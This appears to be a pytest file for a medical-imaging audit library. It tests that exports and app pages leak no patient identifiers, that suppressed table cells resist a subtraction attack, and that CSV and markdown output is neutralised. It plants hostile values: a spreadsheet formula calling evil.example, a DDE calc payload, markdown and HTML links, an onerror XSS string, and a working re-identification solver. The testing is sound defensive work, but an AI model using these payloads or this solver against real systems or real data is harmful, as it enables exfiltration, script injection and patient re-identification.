"""What leaves the library: no patient identifier in any export or page, no hidden cell
recoverable from the published tables, no spreadsheet formula, no live markdown."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import streamlit as st
from PIL import Image
from streamlit.testing.v1 import AppTest

import auditkit
from auditkit._export import csv_safe
from auditkit.cli import main
from auditkit.export import file_audience
from auditkit.suppression import apply_small_cell_policy
from tests.conftest import BrightnessNet, write_model
from tests.test_data_security import write_dicom

REPO = Path(__file__).resolve().parents[1]
PAGES = [REPO / "app.py", *sorted((REPO / "pages").glob("*.py"))]
FAST_OPTIONS = {
    "explain": {"n_images": 4, "n_samples": 4, "sanity_images": 2, "background_size": 4},
    "robustness": {"n_images": 6, "attacks": ["fgsm"], "eps": ["2/255"],
                   "n_images_corruptions": 4, "corruptions": ["gaussian_noise"]},
}
FORMULA = '=HYPERLINK("http://evil.example/?leak","open me")'
MARKDOWN_LINK = "[click me](http://evil.example/x)"
MARKDOWN_IMAGE = "![tracker](http://evil.example/pixel.png)"
HTML_LINK = '<a href="http://evil.example/h">ethnic group</a>'


# --------------------------------------------------------------------------- the attacker


class Published:
    """The linear equations an attacker can write from published counts.

    Unknowns are the withheld counts; an unknown is *recovered* when its unit vector
    lies in the row space of the equations (some combination of additions and
    subtractions of published numbers gives it exactly).
    """

    def __init__(self) -> None:
        self.index: dict[tuple, int] = {}
        self.rows: list[dict[int, float]] = []

    def term(self, key: tuple, value: object) -> dict[int, float]:
        if value is None:
            i = self.index.setdefault(key, len(self.index))
            return {i: 1.0}
        return {}  # a published constant

    def equal(self, left: list[dict[int, float]], right: list[dict[int, float]]) -> None:
        row: dict[int, float] = {}
        for t in left:
            for i, c in t.items():
                row[i] = row.get(i, 0.0) + c
        for t in right:
            for i, c in t.items():
                row[i] = row.get(i, 0.0) - c
        if row:
            self.rows.append(row)

    def recovered(self) -> list[tuple]:
        n = len(self.index)
        if not n or not self.rows:
            return []
        a = np.zeros((len(self.rows), n))
        for r, row in enumerate(self.rows):
            for i, c in row.items():
                a[r, i] = c
        rank = np.linalg.matrix_rank(a)
        found = []
        for key, i in self.index.items():
            unit = np.zeros((1, n))
            unit[0, i] = 1.0
            if np.linalg.matrix_rank(np.vstack([a, unit])) == rank:
                found.append(key)
        return found


def attack(fairness_rows: list[dict], calibration: dict[str, list[dict]], total: int,
           frame: pd.DataFrame | None = None) -> list[tuple]:
    """Every withheld count an attacker recovers from the tables of one population.

    Tables: the attribute groups (each family adds up to ``total``), the intersections
    (each line adds up to its marginal group, all cells to ``total``), the calibration
    curves (each group's bins add up to its n; for every bin, the groups of each
    attribute add up to the same bin total), the same group in two tables (equal), and
    ``predictions.csv`` (rows per visible label and per visible pair of labels).
    """
    eq = Published()
    marg = {(r["attribute"], r["group"]): r for r in fairness_rows if "×" not in r["attribute"]}
    n_of = {key: eq.term(("group",) + key, r["n"]) for key, r in marg.items()}
    families: dict[str, list[tuple]] = {}
    for key in marg:
        families.setdefault(key[0], []).append(key)
    for keys in families.values():
        eq.equal([n_of[k] for k in keys], [])  # = total (a constant)
    cells: dict[str, dict[tuple, dict[int, float]]] = {}
    for r in fairness_rows:
        if "×" in r["attribute"]:
            a, b = r["attribute"].split("×")
            ga, gb = r["group"].split(" × ")
            cells.setdefault(r["attribute"], {})[(ga, gb)] = eq.term(
                ("cell", a, b, ga, gb), r["n"])
    for attribute, table in cells.items():
        a, b = attribute.split("×")
        eq.equal(list(table.values()), [])
        for ga in {k[0] for k in table}:
            eq.equal([t for k, t in table.items() if k[0] == ga], [n_of[(a, ga)]])
        for gb in {k[1] for k in table}:
            eq.equal([t for k, t in table.items() if k[1] == gb], [n_of[(b, gb)]])
    bin_terms: dict[tuple, dict[int, float]] = {}
    for attribute, curves in calibration.items():
        for c in curves:
            key = (attribute, c["group"])
            eq.equal([eq.term(("group",) + key, c["n"])], [n_of[key]])  # same group, two tables
            bins = c["bins"] if c["bins"] is not None else [{"bin": b, "n": None}
                                                            for b in range(10)]
            terms = []
            for b in bins:
                t = eq.term(("bin", attribute, c["group"], b["bin"]), b["n"])
                bin_terms[(attribute, c["group"], b["bin"])] = t
                terms.append(t)
            eq.equal(terms, [n_of[key]])
    attrs = list(calibration)
    for b in range(10):
        sums = {a: [t for (a2, _g, b2), t in bin_terms.items() if a2 == a and b2 == b]
                for a in attrs}
        for a in attrs[1:]:
            eq.equal(sums[attrs[0]], sums[a])
    if frame is not None:  # predictions.csv of the same rows: rows can be counted
        for (a, g), t in n_of.items():
            if t and a in frame.columns and (frame[a] == g).any():
                eq.rows.append(dict(t))  # a withheld group whose rows carry its label
        for attribute, table in cells.items():
            a, b = attribute.split("×")
            for (ga, gb), t in table.items():
                if t and ((frame[a] == ga) & (frame[b] == gb)).any():
                    eq.rows.append(dict(t))  # a withheld cell whose rows carry both labels
    return eq.recovered()


def _synthetic_audit(rng: np.random.Generator) -> tuple[dict, int]:
    """Fairness rows (two attributes and their intersection) and calibration curves."""
    na, nb = int(rng.integers(2, 5)), int(rng.integers(2, 5))
    counts = rng.choice([0, 1, 2, 4, 7, 9, 12, 15, 30, 60], size=(na, nb),
                        p=[.05, .1, .1, .1, .1, .1, .1, .1, .15, .1])
    counts[0, 0] += 20  # never an empty table
    groups_a, groups_b = [f"a{i}" for i in range(na)], [f"b{j}" for j in range(nb)]
    rows = []
    for i, g in enumerate(groups_a):
        if counts[i].sum():
            rows.append({"attribute": "A", "group": g, "n": int(counts[i].sum())})
    for j, g in enumerate(groups_b):
        if counts[:, j].sum():
            rows.append({"attribute": "B", "group": g, "n": int(counts[:, j].sum())})
    for i, ga in enumerate(groups_a):
        for j, gb in enumerate(groups_b):
            if counts[i, j]:
                rows.append({"attribute": "A×B", "group": f"{ga} × {gb}",
                             "n": int(counts[i, j])})
    # calibration: each cell's images fall in random confidence bins
    bins_of = {}
    for i, ga in enumerate(groups_a):
        for j, gb in enumerate(groups_b):
            bins_of[(ga, gb)] = np.bincount(rng.integers(5, 10, counts[i, j]), minlength=10)
    calibration = {}
    for attr, groups, axis in (("A", groups_a, 0), ("B", groups_b, 1)):
        curves = []
        for g in groups:
            hist = sum(v for k, v in bins_of.items() if k[axis] == g)
            if int(hist.sum()):
                curves.append({"attribute": attr, "group": g, "n": int(hist.sum()),
                               "bins": [{"bin": b, "n": int(c), "accuracy": 0.5}
                                        for b, c in enumerate(hist) if c]})
        calibration[attr] = curves
    audit = {"results": {"fairness": {"groups": rows, "calibration": calibration}}}
    return audit, int(counts.sum())


def test_no_subtraction_recovers_a_hidden_cell_in_random_tables() -> None:
    """200 seeded random tables: every pair of published tables, every linear attack."""
    rng = np.random.default_rng(13)
    n_hidden = 0
    for trial in range(200):
        audit, total = _synthetic_audit(rng)
        out, _ = apply_small_cell_policy(audit, k=10)
        fair = out["results"]["fairness"]
        n_hidden += sum(1 for r in fair["groups"] if r.get("suppressed"))
        found = attack(fair["groups"], fair["calibration"], total)
        assert not found, (trial, found, audit)
        for r in fair["groups"]:
            assert r.get("suppressed") or r["n"] >= 10
    assert n_hidden > 200  # the tables really had small cells to protect


def test_the_attack_finds_cells_that_one_attribute_rules_leave_open() -> None:
    """The attacker is not toothless: the old per-attribute rule leaks an intersection cell."""
    rows = [{"attribute": "A", "group": "a0", "n": 50}, {"attribute": "A", "group": "a1", "n": 40},
            {"attribute": "B", "group": "b0", "n": 60}, {"attribute": "B", "group": "b1", "n": 30},
            {"attribute": "A×B", "group": "a0 × b0", "n": None},  # 3, hidden alone
            {"attribute": "A×B", "group": "a0 × b1", "n": 47},
            {"attribute": "A×B", "group": "a1 × b0", "n": 57},
            {"attribute": "A×B", "group": "a1 × b1", "n": None}]  # complementary in-table
    assert ("cell", "A", "B", "a0", "b0") in attack(rows, {}, 90)


# --------------------------------------------------------------------------- planted ids


def _lgg_standin(root: Path, n_patients: int = 40, slices: int = 2) -> dict:
    """An lgg_mri stand-in whose file names, table and values carry identifiers."""
    data = root / "lgg_mri"
    rng = np.random.default_rng(3)
    rows, secrets_ = [], {"patients": [], "dates": [], "stems": [], "mrns": []}
    for p in range(n_patients):
        pid = f"TCGA_Q{chr(65 + p % 3)}_{7100 + p}"
        date = f"19{60 + p}{1 + p % 12:02d}{10 + p % 18:02d}"
        mrn = f"MRN-{880000 + p}"
        secrets_["patients"].append(pid)
        secrets_["dates"].append(date)
        secrets_["mrns"].append(mrn)
        for s in range(slices):
            stem = f"{pid}_{date}_{s + 1:03d}"
            secrets_["stems"].append(stem)
            tumour = (p + s) % 2 == 1
            arr = np.clip(rng.normal(170 if tumour else 80, 25, (8, 8, 3)), 0, 255)
            (data / "images").mkdir(parents=True, exist_ok=True)
            (data / "masks").mkdir(parents=True, exist_ok=True)
            Image.fromarray(arr.astype(np.uint8)).save(data / "images" / f"{stem}.png")
            Image.fromarray(np.zeros((8, 8), np.uint8)).save(data / "masks" / f"{stem}.png")
            rows.append({"image": f"images/{stem}.png", "mask": f"masks/{stem}.png",
                         "label": "tumor" if tumour else "no_tumor", "patient_id": pid,
                         "sex": "F" if p % 2 else "M", "age": str(35 + p),
                         "race": FORMULA if p < 20 else HTML_LINK,
                         "ethnicity": "not hispanic or latino",
                         "tcga_site_code": MARKDOWN_LINK if p % 2 else MARKDOWN_IMAGE,
                         "case_id": f"{pid}_{date}", "scan_date": date, "mrn": mrn})
    pd.DataFrame(rows).to_csv(data / "metadata.csv", index=False)
    return {"rows": rows, **secrets_}


def _covid_dicom_standin(root: Path, n_patients: int = 40) -> dict:
    """A covid_cxr stand-in of DICOM files named after, and carrying, their PatientID."""
    data = root / "covid_cxr"
    rng = np.random.default_rng(4)
    rows, secrets_ = [], {"patients": [], "dates": [], "stems": [], "mrns": []}
    for p in range(n_patients):
        pid = f"DCMPID{52000 + p}"
        secrets_["patients"].append(pid)
        for s in range(2):
            covid = (p + s) % 2 == 1
            pixels = np.clip(rng.normal(3000 if covid else 900, 200, (8, 8)), 0, 4095)
            stem = f"{pid}_{s}"
            secrets_["stems"].append(stem)
            write_dicom(data / "images" / f"{stem}.dcm", rows=8, cols=8,
                        pixels=pixels.astype(np.uint16).tobytes(), patient_id=pid,
                        sex="F" if p % 2 else "M", age=f"0{30 + p}Y")
            rows.append({"image": f"images/{stem}.dcm",
                         "label_covid": "COVID-19" if covid else "No Finding",
                         "patient_id": pid, "sex": "", "age": "",
                         "view": FORMULA if p < 20 else MARKDOWN_LINK,
                         "accession": f"ACC-{pid}"})
    secrets_["mrns"] = [f"ACC-{p}" for p in secrets_["patients"]]
    pd.DataFrame(rows).to_csv(data / "metadata.csv", index=False)
    return {"rows": rows, **secrets_}


STANDINS = {
    "lgg_mri": (_lgg_standin, "mri-tiny", 3, ["no_tumor", "tumor"], "sex:race"),
    "covid_cxr": (_covid_dicom_standin, "cxr-tiny", 1, ["not_covid", "covid"], "sex:view"),
}


def _run_standin(dataset: str, base: Path) -> dict:
    """Write the stand-in, its model (hostile card text) and run every check via the CLI."""
    make, model_name, channels, classes, pair = STANDINS[dataset]
    info = make(base / "data")
    folder = write_model(base / "reg" / model_name / "v1", BrightnessNet(2), fmt="torchscript",
                         channels=channels, size=8, name=model_name, class_names=classes)
    card = json.loads((folder / "card.json").read_text())
    card["dataset"] = dataset
    card["intended_use"] = f"{MARKDOWN_IMAGE} <img src=x onerror=alert(1)> {MARKDOWN_LINK}"
    (folder / "card.json").write_text(json.dumps(card))
    pd.DataFrame({"image": [r["image"] for r in info["rows"]],
                  "split": ["train" if i % 4 else "test" for i in range(len(info["rows"]))]}
                 ).to_csv(folder / "split.csv", index=False)
    env = {"AUDITKIT_MODELS": str(base / "reg"), "AUDITKIT_DATA_ROOT": str(base / "data"),
           "AUDITKIT_AUDITS": str(base / "audits"), "AUDITKIT_CACHE": str(base / "cache")}
    out = base / "audits" / f"{model_name}@v1__{dataset}__all"
    with pytest.MonkeyPatch.context() as mp:
        for name, value in env.items():
            mp.setenv(name, value)
        assert main(["audit", "--model", f"{model_name}@v1", "--dataset", dataset,
                     "--data-root", str(base / "data"), "--out", str(out), "--n-boot", "20",
                     "--evaluate-on", "all", "--trust-model-code",
                     "--checks", "fairness,explain,robustness,privacy",
                     "--intersection", pair, "--options", json.dumps(FAST_OPTIONS)]) == 0
    return {**info, "out": out, "cache": base / "cache", "model": folder, "env": env}


@pytest.fixture(scope="module")
def _standin_runs(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Each stand-in audited once per module (an audit of every check takes seconds)."""
    return {name: _run_standin(name, tmp_path_factory.mktemp(name)) for name in STANDINS}


def _use(run: dict, monkeypatch: pytest.MonkeyPatch) -> dict:
    for name, value in run["env"].items():
        monkeypatch.setenv(name, value)
    st.cache_data.clear()
    st.cache_resource.clear()
    return run


@pytest.fixture
def planted(_standin_runs: dict, monkeypatch: pytest.MonkeyPatch) -> dict:
    return _use(_standin_runs["lgg_mri"], monkeypatch)


@pytest.fixture(params=list(STANDINS))
def any_planted(request: pytest.FixtureRequest, _standin_runs: dict,
                monkeypatch: pytest.MonkeyPatch) -> dict:
    return _use(_standin_runs[request.param], monkeypatch)


def _identifiers(info: dict) -> list[str]:
    found = info["patients"] + info["dates"] + info["stems"] + info["mrns"]
    return found + [p.replace("_", "-") for p in info["patients"]]


def _export_texts(out: Path) -> dict[str, str]:
    """Every file of an audit folder as text; npz archives by member name and content."""
    texts = {}
    for path in sorted(out.rglob("*")):
        if path.is_file():
            texts[path.name] = path.read_bytes().decode("latin-1")
            if path.suffix == ".npz":
                with np.load(path, allow_pickle=False) as npz:
                    texts[path.name + ":keys"] = " ".join(npz.files)
    return texts


def test_no_export_names_a_patient_a_date_or_a_file(any_planted: dict) -> None:
    texts = _export_texts(any_planted["out"])
    assert {"audit.json", "predictions.csv", "membership_scores.csv", "robustness.csv",
            "attributions.npz"} <= set(texts)
    for secret in _identifiers(any_planted):
        for name, text in texts.items():
            assert secret not in text, (secret, name)


def test_one_pseudonymous_key_joins_every_export(planted: dict) -> None:
    out = planted["out"]
    preds = pd.read_csv(out / "predictions.csv", dtype=str)
    keys = set(preds["image"])
    assert len(keys) == len(planted["rows"]) and all(re.fullmatch(r"img-[0-9a-f]{20}", k)
                                                     for k in keys)
    assert set(pd.read_csv(out / "membership_scores.csv")["image"]) <= keys
    assert set(pd.read_csv(out / "robustness.csv")["image"]) <= keys
    with np.load(out / "attributions.npz", allow_pickle=False) as npz:
        maps = set(npz.files) - {"audience"}  # the file's own audience entry
        assert maps <= keys and maps and str(npz["audience"]) == "in-house"
    audit = json.loads((out / "audit.json").read_text())
    assert {i["image"] for i in audit["results"]["explain"]["images"]} <= keys
    # the way back to the files stays in the local cache, readable by its owner only
    key_map = planted["cache"] / "keys" / "lgg_mri.csv"
    mapping = pd.read_csv(key_map, dtype=str)
    assert set(mapping["key"]) == keys
    assert set(mapping["image"]) == {r["image"] for r in planted["rows"]}
    for private in (key_map, planted["cache"] / "installation.key"):
        assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert len((planted["cache"] / "installation.key").read_bytes()) == 32


def test_every_file_written_states_its_audience(planted: dict, tmp_path: Path) -> None:
    """The audit folder and both its bundles: every file says whom it was written for."""
    out = planted["out"]
    stated = {p.name: file_audience(p) for p in out.iterdir() if p.is_file()}
    assert stated == {"audit.json": "release", "audit.in-house.json": "in-house",
                      "predictions.csv": "release", "membership_scores.csv": "in-house",
                      "robustness.csv": "in-house", "attributions.npz": "in-house"}
    # in the data itself: a column in every CSV row, an entry in the NPZ
    preds = pd.read_csv(out / "predictions.csv", dtype=str, keep_default_na=False)
    assert list(preds.columns)[-1] == "audience" and set(preds["audience"]) == {"release"}
    with open(out / "robustness.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and {r["audience"] for r in rows} == {"in-house"}
    with np.load(out / "attributions.npz", allow_pickle=False) as npz:
        assert str(npz["audience"]) == "in-house"
    # every reader still reads them: the maps load without the entry
    from auditkit.explain import load_attributions

    maps = load_attributions(out / "attributions.npz")
    assert maps and "audience" not in maps and all(m.ndim == 4 for m in maps.values())
    bundles = {}
    for audience in ("release", "in-house"):
        dest = tmp_path / audience
        assert main(["export", str(out), f"--{audience}", "--out", str(dest)]) == 0
        manifest = json.loads((dest / "MANIFEST.json").read_text())
        files = {p.name: file_audience(p) for p in dest.iterdir() if p.is_file()}
        assert None not in files.values(), files
        assert files["MANIFEST.json"] == files["audit.json"] == audience
        assert {n: m["audience"] for n, m in manifest["files"].items()} == {
            n: a for n, a in files.items() if n != "MANIFEST.json"}
        bundles[audience] = files
    assert bundles["release"] == {"MANIFEST.json": "release", "audit.json": "release",
                                  "predictions.csv": "release"}
    # in-house: every evidence file; predictions.csv keeps the (stricter) release rule
    assert bundles["in-house"] == {"MANIFEST.json": "in-house", "audit.json": "in-house",
                                   "predictions.csv": "release",
                                   "membership_scores.csv": "in-house",
                                   "robustness.csv": "in-house",
                                   "attributions.npz": "in-house"}
    # a file from before audiences were stated is written stating in-house
    old = tmp_path / "old"
    old.mkdir()
    for name in ("audit.json", "audit.in-house.json"):
        (old / name).write_bytes((out / name).read_bytes())
    preds.drop(columns=["audience"]).to_csv(old / "predictions.csv", index=False)
    assert file_audience(old / "predictions.csv") is None
    assert main(["export", str(old), "--in-house", "--out", str(tmp_path / "old-in")]) == 0
    assert file_audience(tmp_path / "old-in" / "predictions.csv") == "in-house"


def test_a_file_states_one_audience(tmp_path: Path) -> None:
    from auditkit._export import save_npz, write_frame_csv
    from auditkit.exceptions import ConfigError, DataError

    frame = pd.DataFrame({"image": ["a", "b"], "audience": ["release", "in-house"]})
    frame.to_csv(tmp_path / "mixed.csv", index=False)
    with pytest.raises(DataError, match="states more than one audience: .'in-house', "
                                        "'release'.; expected one for the whole file"):
        file_audience(tmp_path / "mixed.csv")
    with pytest.raises(ConfigError, match="the column 'audience' is reserved for the file's "
                                          "audience; found a data column of that name"):
        write_frame_csv(pd.DataFrame({"audience": ["students"]}), tmp_path / "x.csv",
                        audience="release")
    with pytest.raises(ValueError, match="'audience' is reserved for the file's audience; "
                                         "got an array named 'audience' instead"):
        save_npz(tmp_path / "x.npz", {"audience": np.zeros(1)}, audience="in-house")
    with pytest.raises(ConfigError, match="audience must be one of .'in-house', 'release'.; "
                                          "got 'public' instead"):
        write_frame_csv(frame.drop(columns=["audience"]), tmp_path / "y.csv", audience="public")


def test_keys_need_the_installation_secret(planted: dict, tmp_path: Path) -> None:
    """Another installation (another secret) gets other keys: a key cannot be guessed."""
    from auditkit._local import image_key, installation_secret

    image = planted["rows"][0]["image"]
    mine = image_key(installation_secret(planted["cache"]), "lgg_mri", image)
    theirs = image_key(installation_secret(tmp_path / "elsewhere"), "lgg_mri", image)
    assert mine != theirs
    assert mine in set(pd.read_csv(planted["out"] / "predictions.csv", dtype=str)["image"])


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_csv_cells_never_start_a_formula(planted: dict) -> None:
    out = planted["out"]
    for name in ("predictions.csv", "membership_scores.csv", "robustness.csv"):
        for cell in _cells(out / name):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only plain numbers may start with a sign
    preds = pd.read_csv(out / "predictions.csv", dtype=str)
    assert "'" + FORMULA in set(preds["race"])  # shown as text, nothing lost


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1",
                                   "\r=1"])
def test_csv_safe_follows_the_owasp_rule(value: str) -> None:
    assert csv_safe(value) == "'" + value
    assert csv_safe("-0.5") == "-0.5" and csv_safe(3) == 3 and csv_safe("a=b") == "a=b"


def _page_texts(at: AppTest) -> str:
    """The text of every element the page drew (its protobufs: markdown sources, tables,
    chart specs, labels)."""
    parts = []

    def walk(node: object) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None:
            parts.append(str(proto))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    for frame in at.dataframe:
        parts.append(frame.value.to_csv())
    return "\n".join(parts)


@pytest.mark.parametrize("page", PAGES, ids=[p.stem for p in PAGES])
def test_no_page_shows_an_identifier_or_live_markdown(any_planted: dict, page: Path) -> None:
    at = AppTest.from_file(str(page), default_timeout=120).run()
    assert not at.exception, at.exception
    if page.name == "2_Explanations.py":  # the stored audit is drawn, photographs and maps
        assert "The images, side by side across groups" in [h.value for h in at.subheader]
        assert not any("not on this computer" in c.value for c in at.caption)
    text = _page_texts(at)
    for secret in _identifiers(any_planted):
        assert secret not in text, (page.name, secret)
    sources = [m.value for m in at.markdown] + [c.value for c in at.caption]
    sources += [w.value for w in at.warning] + [i.value for i in at.info]
    live = re.compile(r"(?<!\\)\]\(|(?<!\\)<img|(?<!\\)<a ")  # unescaped link/image/tag
    for source in sources:
        assert not live.search(source), (page.name, source)
    for chart in at.get("plotly_chart"):  # plotly draws <a href> in labels as a live link
        assert "<a href" not in json.loads(chart.proto.spec).__repr__(), page.name
    if page.name == "app.py":
        assert any("evil.example" in s for s in sources)  # the card text is there, as text


# --------------------------------------------------------------------------- DICOM


def test_dicom_patient_ids_in_names_and_headers_never_leave(tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch
                                                           ) -> None:
    root = tmp_path / "dicoms"
    rows, secrets_ = [], []
    rng = np.random.default_rng(5)
    for i in range(24):
        pid = f"DCMPID{40000 + i // 2}"
        secrets_.append(pid)
        bright = i % 2 == 1
        pixels = np.clip(rng.normal(3000 if bright else 800, 200, (8, 8)), 0, 4095)
        write_dicom(root / f"{pid}_{i}.dcm", rows=8, cols=8,
                    pixels=pixels.astype(np.uint16).tobytes(), patient_id=pid,
                    sex="F" if i % 4 < 2 else "M", age=f"0{40 + i}Y")
        rows.append({"file": f"{pid}_{i}.dcm", "finding": "malignant" if bright else "benign",
                     "patient": pid, "accession": f"ACC-{pid}"})
    pd.DataFrame(rows).to_csv(root / "t.csv", index=False)
    (root / "auditkit.toml").write_text(
        'name = "dicoms"\ntable = "t.csv"\nimage_column = "file"\nlabel_column = "finding"\n'
        'classes = ["benign", "malignant"]\npatient_column = "patient"\n'
        '[[attributes]]\nname = "sex"\ncolumn = "PatientSex"\nkind = "sex"\n'
        '[[attributes]]\nname = "age"\ncolumn = "PatientAge"\nkind = "age"\n')
    model = write_model(tmp_path / "m", BrightnessNet(2), fmt="torchscript", channels=1, size=8)
    out = tmp_path / "audit"
    assert main(["audit", "--model", str(model), "--dataset", str(root), "--out", str(out),
                 "--n-boot", "20", "--checks", "fairness,explain,robustness,privacy",
                 "--options", json.dumps(FAST_OPTIONS)]) == 0
    texts = _export_texts(out)
    assert "attributions.npz" in texts
    for secret in {*secrets_, "DCMPID", "ACC-"}:
        for name, text in texts.items():
            assert secret not in text, (secret, name)


# --------------------------------------------------------------------------- the real audit


def test_a_real_audit_resists_the_subtraction_attack(tmp_path: Path) -> None:
    """run_audit with an intersection: fairness tables, calibration and predictions.csv."""
    from tests.conftest import make_image_dataset

    toml = make_image_dataset(tmp_path / "data", n=80)
    table = tmp_path / "data" / "table.csv"
    df = pd.read_csv(table, dtype=str)
    df["site"] = ["a"] * 44 + ["b"] * 30 + ["c"] * 6
    df["age"] = [str(20 + i % 60) for i in range(80)]
    df.to_csv(table, index=False)
    dataset = auditkit.load_dataset(toml)
    model = auditkit.load_model(write_model(tmp_path / "m", BrightnessNet(2), fmt="torchscript"),
                                device="cpu")
    config = auditkit.AuditConfig(checks=["performance", "fairness"], n_boot=20,
                                  intersections=[["sex", "site"]], evaluate_on="all")
    out = tmp_path / "a"
    audit = auditkit.run_audit(model=model, dataset=dataset, config=config, out_dir=out)
    fair = audit["results"]["fairness"]
    rows = [r for r in fair["groups"] if r["attribute"] in ("sex", "site", "sex×site")]
    assert any(r.get("suppressed") for r in rows if r["attribute"] == "sex×site")
    calibration = {a: fair["calibration"][a] for a in ("sex", "site")}
    frame = pd.read_csv(out / "predictions.csv", dtype=str, keep_default_na=False)
    assert not attack(rows, calibration, len(dataset), frame)
    hidden_cells = [r["group"].split(" × ") for r in rows
                    if r["attribute"] == "sex×site" and r.get("suppressed")]
    for sex, site in hidden_cells:  # no row of a hidden cell is labelled with both groups
        assert not ((frame["sex"] == sex) & (frame["site"] == site)).any()
    assert io.StringIO(json.dumps(audit))  # the audit stays strict JSON


# --------------------------------------------------------------------------- the demo audits


@pytest.mark.slow
@pytest.mark.parametrize(("model", "dataset"), [
    ("derm-lesion@v1", "fitzpatrick17k"), ("derm-lesion@v2", "fitzpatrick17k"),
    ("cxr-covid@v1", "covid_cxr"), ("mri-tumor@v1", "lgg_mri"),
])
def test_demo_audit_exports_name_no_patient(tmp_path: Path, data_root: Path, model: str,
                                           dataset: str) -> None:
    """All checks, fast options: no TCGA id, no file-name date, no DICOM PatientID."""
    out = tmp_path / "a"
    # the pixel-based skin-tone estimate reads every photograph once more: off to stay fast
    options = {**FAST_OPTIONS, "fairness": {"estimate_skin_tone": False}}
    assert main(["audit", "--model", model, "--dataset", dataset, "--out", str(out),
                 "--n-boot", "50", "--data-root", str(data_root), "--checks",
                 "fairness,explain,robustness,privacy", "--options",
                 json.dumps(options)]) == 0
    table = pd.read_csv(data_root / dataset / "metadata.csv", dtype=str, keep_default_na=False)
    names = table["image"].tolist()
    stems = {Path(n).stem for n in names}
    dates = {m for n in names for m in re.findall(r"(?<!\d)(?:19|20)\d{6}(?!\d)", n)}
    patients = set(table["patient_id"]) - {""} if "patient_id" in table else set()
    dicom_ids = set()
    for name in names:
        if name.lower().endswith((".dcm", ".dicom")):
            import pydicom

            dicom_ids.add(str(pydicom.dcmread(data_root / dataset / name,
                                              stop_before_pixels=True).get("PatientID", "")))
    tcga = re.compile(r"TCGA[-_][A-Z0-9]{2}[-_][A-Z0-9]{4}")
    for name, text in _export_texts(out).items():
        assert not tcga.search(text), name
        for secret in dates | {d for d in dicom_ids if d}:
            assert secret not in text, (name, secret)
        if name.endswith(".csv"):
            cells = set(_cells(out / name)) if ":" not in name else set()
            assert not cells & (stems | set(names) | patients), name
